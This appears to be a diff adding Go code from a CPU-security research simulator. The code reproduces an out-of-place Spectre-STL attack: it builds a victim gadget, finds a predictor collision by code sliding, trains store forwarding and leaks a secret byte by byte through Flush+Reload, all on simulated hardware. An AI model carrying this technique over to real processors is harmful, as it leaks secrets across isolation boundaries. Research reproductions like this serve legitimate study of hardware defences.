@@ -1,0 +1,161 @@
+package attack
+
+import (
+	"zenspec/internal/asm"
+	"zenspec/internal/isa"
+	"zenspec/internal/kernel"
+	"zenspec/internal/mem"
+	"zenspec/internal/revng"
+	"zenspec/internal/sidechannel"
+)
+
+// Address layout of the Spectre-STL victim (the attack is intra-process:
+// out-of-place extends the attack surface within one address space, since
+// PSFP is flushed on every context switch).
+const (
+	stlVictimVA = 0x1000000
+	stlArray1VA = 0x2000000
+	stlArray2VA = 0x3000000
+	stlIdxVA    = 0x4000000
+	stlSecretVA = 0x5000000
+	stlFRCodeVA = 0x6000000
+	// stlStoreIdx is the store's slot during triggers: outside the probed
+	// 0..255 range so the store itself does not pollute the channel.
+	stlStoreIdx = 256
+)
+
+// buildSTLVictim assembles the Listing 2 gadget:
+//
+//	array2[idx * 4096] = x;                       // store, address delayed
+//	temp = array2[array1[array2[0]] * 4096];      // ld1, ld2, ld3
+//
+// idx is loaded from memory (the attacker flushes its line to delay the
+// store's address generation) and x arrives in RDI.
+func buildSTLVictim() []byte {
+	b := asm.NewBuilder()
+	b.Movi(isa.R15, stlIdxVA)
+	b.Load(isa.RCX, isa.R15, 0) // idx — slow when flushed
+	b.Movi(isa.R12, 1)
+	for i := 0; i < 10; i++ {
+		b.Imul(isa.RCX, isa.RCX, isa.R12)
+	}
+	b.Shli(isa.RCX, isa.RCX, 12)
+	b.Movi(isa.R13, stlArray2VA)
+	b.Add(isa.RCX, isa.RCX, isa.R13)
+	b.Store(isa.RCX, 0, isa.RDI) // array2[idx<<12] = x
+	b.Load(isa.RDX, isa.R13, 0)  // ld1 = array2[0] (8 bytes after the store)
+	b.Movi(isa.R14, stlArray1VA)
+	b.Add(isa.RBX, isa.RDX, isa.R14)
+	b.Load(isa.R8, isa.RBX, 0) // ld2 = array1[ld1]
+	b.Andi(isa.R8, isa.R8, 0xff)
+	b.Shli(isa.R9, isa.R8, 12)
+	b.Add(isa.R9, isa.R9, isa.R13)
+	b.Load(isa.R10, isa.R9, 0) // ld3: encode into a cache line
+	b.Halt()
+	return b.MustAssemble(stlVictimVA)
+}
+
+// STLOptions configures the Spectre-STL attack run.
+type STLOptions struct {
+	// SliderPages is the code-sliding window (the paper uses 16 pages for a
+	// >90% collision rate).
+	SliderPages int
+	// MaxInstrStep slides at instruction granularity when true (cheaper)
+	// instead of byte granularity.
+	InstrStep bool
+}
+
+// SpectreSTL runs the out-of-place Spectre-STL attack of Section V-B:
+// a PSFP collision is found by code sliding, the predictor is trained
+// through the attacker's own store-load pair, and each victim execution
+// predictively forwards the attacker-chosen x to the victim's load,
+// steering a transient secret fetch that is recovered with Flush+Reload.
+func SpectreSTL(cfg kernel.Config, secret []byte, opts STLOptions) Result {
+	if opts.SliderPages == 0 {
+		opts.SliderPages = 16
+	}
+	res := Result{Name: "out-of-place spectre-stl", Secret: secret}
+
+	l := revng.NewLab(cfg)
+	p := l.P
+	victim := buildSTLVictim()
+	p.MapCode(stlVictimVA, victim)
+	p.MapData(stlArray1VA, mem.PageSize)
+	p.MapData(stlArray2VA, (stlStoreIdx+2)*mem.PageSize)
+	p.MapData(stlIdxVA, mem.PageSize)
+	p.MapData(stlSecretVA, uint64(len(secret))+mem.PageSize)
+	p.WriteBytes(stlSecretVA, secret)
+
+	fr := sidechannel.New(l.K, p, 0, stlArray2VA, 256, stlFRCodeVA)
+
+	startCycles := l.K.CPU(0).Core.Cycle()
+
+	runVictim := func(x uint64, idx uint64, flushIdx bool) {
+		res.VictimCalls++
+		p.Write64(stlIdxVA, idx)
+		p.WarmLine(stlArray2VA) // ld1's line
+		if flushIdx {
+			p.FlushLine(stlIdxVA)
+		} else {
+			p.WarmLine(stlIdxVA)
+		}
+		p.Regs = [isa.NumRegs]uint64{}
+		p.Regs[isa.RDI] = x
+		l.K.Run(p, stlVictimVA, 0)
+	}
+
+	// Phase 1 — collision finding: one aliasing victim run trains the
+	// victim pair to predict aliasing (C0=4); sliding probes stall exactly
+	// when both hashed IPAs match.
+	p.Write64(stlArray2VA, 0)
+	runVictim(0, 0, true) // idx=0: the store aliases ld1 -> type G trains C0
+	step := 1
+	if opts.InstrStep {
+		step = isa.InstBytes
+	}
+	slider := l.NewSlider(p, opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
+	var collider *revng.Stld
+	for at := 0; at+len(slider.Tmpl().Code) < slider.MaxOffsets(); at += step {
+		res.CollisionAttempts++
+		probe := slider.Place(at)
+		if probe.Run(false).Class == revng.ClassStall {
+			collider = probe
+			break
+		}
+	}
+	if collider == nil {
+		res.Cycles = l.K.CPU(0).Core.Cycle() - startCycles
+		finalize(&res)
+		return res
+	}
+
+	// Phase 2 — leak, one byte per victim execution. A byte with no probe
+	// hit is retried once: the first transient walk of a cold page can fall
+	// out of the window (TLB misses), and the retry finds it warm — the
+	// same retry loop real PoCs carry.
+	exclude := map[int]bool{0: true} // ld1 keeps array2[0] hot
+	for i := range secret {
+		v, ok := 0, false
+		for attempt := 0; attempt < 2 && !ok; attempt++ {
+			// Retrain PSF through the attacker's own pair: drain to a known
+			// state, one hard retrain (G), then aliasing runs until
+			// predictive forwarding is enabled (C1 below 12).
+			drainUntilFast(collider, 60)
+			for j := 0; j < 7; j++ {
+				collider.Run(true)
+			}
+			fr.FlushAll()
+			p.Write64(stlArray2VA, 0)
+			x := stlSecretVA + uint64(i) - stlArray1VA
+			runVictim(x, stlStoreIdx, true)
+			v, ok = fr.Recover(exclude)
+		}
+		if !ok {
+			v = 0 // no hit outside the polluted slot: the byte was zero
+		}
+		res.Leaked = append(res.Leaked, byte(v))
+	}
+	res.Cycles = l.K.CPU(0).Core.Cycle() - startCycles
+	finalize(&res)
+	return res
+}
